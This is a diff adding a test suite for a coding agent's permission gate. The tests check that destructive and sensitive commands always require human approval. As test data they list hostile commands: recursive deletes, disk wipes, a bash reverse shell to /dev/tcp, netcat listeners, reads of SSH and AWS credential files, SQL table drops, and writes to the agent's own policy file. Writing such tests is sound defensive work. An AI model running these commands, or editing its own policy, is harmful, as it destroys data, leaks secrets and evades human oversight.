@@ -1,0 +1,170 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { DenialTracker } from '../../src/permissions/denials.js';
+import { authorizeJudged } from '../../src/permissions/gate.js';
+import { IMMUNE_CLASSES } from '../../src/permissions/immune.js';
+import { judgedFor } from '../../src/permissions/explain.js';
+import { explain, parser, policyWith, sandbox, type Sandbox } from './helpers.js';
+
+// [class, call]: every seed-004 class (and chatcli §6.4's regex families), plus codeward's own.
+const CASES: readonly (readonly [string, string])[] = [
+  ['rm-recursive-force', '@coder exec rm -rf build'],
+  ['rm-recursive-force', '@coder exec rm -fr build'],
+  ['rm-recursive-force', '@coder exec rm -r -f build'],
+  ['rm-recursive-force', '@coder exec rm --recursive --force build'],
+  ['rm-recursive-force', '@coder exec rm -Rfv build'],
+  ['rm-root', '@coder exec rm -r /'],
+  ['rm-root', '@coder exec rm --no-preserve-root -r /x'],
+  ['mkfs', '@coder exec mkfs.ext4 /dev/sdb1'],
+  ['mkfs', '@coder exec mkfs -t ext4 /dev/sdb1'],
+  ['dd-device', '@coder exec dd if=/dev/zero of=/dev/sda bs=1M'],
+  ['shred', '@coder exec shred -u secret.txt'],
+  ['sudo', '@coder exec sudo ls'],
+  ['sudo', '@coder exec doas make install'],
+  ['sudo', '@coder exec sudo -u root -- npm test'],
+  ['su', '@coder exec su -'],
+  ['su', "@coder exec su -c 'ls' root"],
+  ['chmod-777', '@coder exec chmod 777 file'],
+  ['chmod-777', '@coder exec chmod -R a+w dir'],
+  ['chmod-777', '@coder exec chmod 0666 file'],
+  ['chmod-setuid', '@coder exec chmod +s file'],
+  ['chmod-setuid', '@coder exec chmod 4755 file'],
+  ['chmod-setuid', '@coder exec chmod u+s file'],
+  ['chown-root', '@coder exec chown root file'],
+  ['chown-root', '@coder exec chown -R root:root dir'],
+  ['insmod', '@coder exec insmod evil.ko'],
+  ['rmmod', '@coder exec rmmod e1000'],
+  ['modprobe', '@coder exec modprobe -r e1000'],
+  ['sysctl-write', '@coder exec sysctl -w net.ipv4.ip_forward=1'],
+  ['sysctl-write', '@coder exec sysctl kernel.x=1'],
+  ['iptables-flush', '@coder exec iptables -F'],
+  ['iptables-flush', '@coder exec ip6tables --flush'],
+  ['systemctl-stop', '@coder exec systemctl stop nginx'],
+  ['systemctl-stop', '@coder exec systemctl disable sshd'],
+  ['systemctl-stop', '@coder exec systemctl mask x'],
+  ['nc-listen', '@coder exec nc -lvp 4444'],
+  ['ncat-listen', '@coder exec ncat -l 4444'],
+  ['git-push-force', '@coder exec git push --force'],
+  ['git-push-force', '@coder exec git push -f origin main'],
+  ['git-push-force', '@coder exec git -c a=b push --force-with-lease'],
+  ['git-reset-hard', '@coder exec git reset --hard HEAD~1'],
+  ['git-clean-force', '@coder exec git clean -fdx'],
+  ['kill-9', '@coder exec kill -9 123'],
+  ['kill-9', '@coder exec kill -s KILL 123'],
+  ['killall', '@coder exec killall node'],
+  ['pkill-9', '@coder exec pkill -9 node'],
+  ['shutdown', '@coder exec shutdown -h now'],
+  ['shutdown', '@coder exec systemctl poweroff'],
+  ['reboot', '@coder exec reboot'],
+  ['poweroff', '@coder exec poweroff'],
+  ['halt', '@coder exec halt'],
+  ['dev-tcp', '@coder exec bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
+  ['dev-tcp', '@coder exec cat < /dev/udp/1.2.3.4/53'],
+  ['sql-drop', '@coder exec psql -c "DROP TABLE users"'],
+  ['sql-drop', '@coder exec psql <<EOF\ndrop database prod;\nEOF'],
+  ['sql-truncate', '@coder exec mysql -e "truncate table orders"'],
+  ['sql-delete-all', '@coder exec sqlite3 app.db "DELETE FROM users WHERE 1=1"'],
+  ['sql-delete-all', '@coder exec sqlite3 app.db "delete from users;"'],
+  ['ssh-keys', '@coder exec cat ~/.ssh/id_rsa'],
+  ['ssh-keys', '@coder exec scp -i $HOME/.ssh/key a b'],
+  ['ssh-keys', '@coder read .ssh/id_ed25519'],
+  ['ssh-keys', '@coder write .ssh/authorized_keys'],
+  ['gnupg', '@coder exec ls ~/.gnupg/'],
+  ['aws-credentials', '@coder exec cat ~/.aws/credentials'],
+  ['aws-credentials', '@coder read .aws/credentials'],
+  ['kube-config', '@coder exec cp x ~/.kube/config'],
+  ['system-path', '@coder exec cp hosts /etc/hosts'],
+  ['system-path', '@coder exec echo x > /etc/hosts'],
+  ['system-path', '@coder exec tee /boot/grub.cfg'],
+  ['system-path', '@coder exec echo 1 > /proc/sys/vm/drop_caches'],
+  ['system-path', '@coder exec cat x > /dev/sda'],
+  ['codeward-policy', '@coder write .codeward/policy.json'],
+  ['codeward-policy', '@coder delete .chatcli/coder_policy.json'],
+  ['codeward-policy', '@coder write coder_policy.json'],
+  ['codeward-policy', "@coder exec echo '{}' > .codeward/policy.json"],
+  ['git-internals', '@coder write .git/hooks/pre-commit'],
+  ['git-internals', '@coder exec cp hook.sh .git/hooks/pre-commit'],
+  ['unparsed', '@coder exec ls &&'],
+  ['dynamic-command', '@coder exec $CMD x'],
+  ['dynamic-command', '@coder exec $(echo rm) -rf x'],
+  ['dynamic-args', '@coder exec git $SUBCOMMAND'],
+  ['dynamic-args', '@coder exec rm $FILES'],
+];
+
+// Look alike, are not immune.
+const NOT_IMMUNE: readonly string[] = [
+  '@coder exec echo "rm -rf /"',
+  '@coder exec grep -r sudo src',
+  '@coder exec cat reboot.txt',
+  '@coder exec git push origin main',
+  '@coder exec git reset --soft HEAD~1',
+  '@coder exec git clean -n',
+  '@coder exec kill 123',
+  '@coder exec chmod 644 file',
+  '@coder exec chmod +x script.sh',
+  '@coder exec rm build.log',
+  '@coder exec rm -r build',
+  '@coder exec cat /etc/hosts',
+  '@coder exec ls .git/',
+  '@coder exec git log -- .git/x',
+  '@coder exec nc example.com 80',
+  '@coder exec systemctl status nginx',
+  '@coder read .gitignore',
+  '@coder read .codeward/policy.json',
+  '@coder write .github/workflows/ci.yml',
+  '@coder exec echo $HOME',
+];
+
+let box: Sandbox;
+beforeAll(async () => {
+  box = await sandbox();
+});
+afterAll(async () => {
+  await box.cleanup();
+});
+
+describe('safety immunity', () => {
+  test('every class has a case', () => {
+    const covered = new Set(CASES.map(([name]) => name));
+    expect(IMMUNE_CLASSES.filter((cls) => !covered.has(cls.name)).map((cls) => cls.name)).toEqual([]);
+    expect(IMMUNE_CLASSES.length).toBeGreaterThanOrEqual(40);
+  });
+
+  test.each(CASES)('%s: %j asks even under allow "@coder *"', async (name, call) => {
+    const policy = await policyWith(box, ['allow @coder *', 'allow *']);
+    const result = await explain(policy, call);
+    expect({ decision: result.decision, source: result.source, immune: result.immune }).toEqual({ decision: 'ask', source: 'immune', immune: name });
+  });
+
+  test.each(CASES)('%s: %j is not approved by --yes (C241)', async (_name, call) => {
+    const policy = await policyWith(box, ['allow @coder exec *', 'allow @coder *']);
+    const [, command, rest] = /^@coder (\S+) ([\s\S]*)$/.exec(call)!;
+    const gate = authorizeJudged([judgedFor(command!, rest)], { policy, denials: new DenialTracker(), yes: true, parser });
+    await expect(gate).rejects.toMatchObject({ code: 'C241', message: expect.stringContaining('safety-immune') });
+  });
+
+  test.each(CASES)('%s: %j — a deny rule still denies', async (_name, call) => {
+    const result = await explain(await policyWith(box, ['deny @coder *', 'deny *']), call);
+    expect(result.decision).toBe('deny');
+  });
+
+  test.each(NOT_IMMUNE)('%j is not immune', async (call) => {
+    const result = await explain(await policyWith(box, ['allow @coder *']), call);
+    expect(result.immune, result.reason).toBeUndefined();
+  });
+
+  test('a person can approve an immune call once', async () => {
+    const policy = await policyWith(box, ['allow @coder exec *']);
+    const asked: unknown[] = [];
+    await authorizeJudged([judgedFor('exec', 'git push --force')], {
+      policy,
+      denials: new DenialTracker(),
+      yes: true,
+      parser,
+      approver: async (request) => {
+        asked.push(request);
+        return 'once';
+      },
+    });
+    expect(asked).toEqual([expect.objectContaining({ immune: 'git-push-force', source: 'immune', options: ['once', 'no'] })]);
+  });
+});
